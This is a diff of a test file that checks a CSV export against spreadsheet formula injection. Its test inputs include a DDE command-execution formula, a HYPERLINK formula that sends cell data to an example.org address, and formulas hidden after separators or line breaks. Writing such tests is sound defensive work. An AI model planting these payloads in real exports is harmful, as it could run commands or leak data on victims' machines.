@@ -57,6 +57,11 @@ test.each([
   '＝1+1',
   '=HYPERLINK("http://example.org?"&A1)',
   "=cmd|' /C calc'!A0",
+  'said so;=1+1',
+  'said so; \t+1',
+  'said so\n=1+1',
+  'said so\r\n-1+cmd|x',
+  '- said so\n- HYPERLINK("x")',
 ])('[EXPORT-1] %j is no formula in any cell of the CSV', (text) => {
   const revised = after(
     aPanel({ policy: { kind: 'facilitator' } }),
@@ -70,8 +75,12 @@ test.each([
     as('fay', { type: 'skip-round', roundId: 'q2', reason: text }),
   )
   const cells = rowsOf({ ...revised, candidate: text, role: text }).flatMap(Object.values)
-  expect(cells.filter((cell) => cell.includes(text))).toHaveLength(19)
+  const bare = (cell: string) => cell.replaceAll("'", '')
+  expect(cells.filter((cell) => bare(cell).includes(bare(text)))).toHaveLength(19)
   expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
+  // As a spreadsheet reads it that cuts at `;` and at each line's end.
+  const cut = cells.flatMap((cell) => cell.split(/[;\t\r\n]/))
+  expect(cut.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([])
 })
 
 test('[EXPORT-1] numbers stay numbers', () => {
@@ -87,9 +96,17 @@ test('[EXPORT-1] whatever was written comes out of the CSV as it was', () => {
   }
   const points = fc.array(fc.oneof(fc.nat(0x7f), fc.nat(0x10ffff)), { maxLength: 60 })
   const written = points.map((some) => `“${String.fromCodePoint(...some).toWellFormed()}"`)
-  const odd = fc.constantFrom('a "b" c', 'one\r\ntwo\nthree\rfour', 'a,b;c\td', '日本 👩🏽‍🔬', '')
+  const odd = fc.constantFrom(
+    '- one\n- two; + three',
+    'a "b" c',
+    'one\r\ntwo\nthree\rfour',
+    'a,b;c\td',
+    '日本 👩🏽‍🔬',
+    '',
+  )
   fc.assert(
     fc.property(fc.oneof(written, odd), (evidence) => {
+      fc.pre(!/[;\t\r\n]\s*[=+\-@＝＋－＠](?!\s[a-z])/.test(evidence))
       expect(rowsIn(csvWith(evidence))[0]?.['blind evidence']).toBe(evidence)
     }),
   )
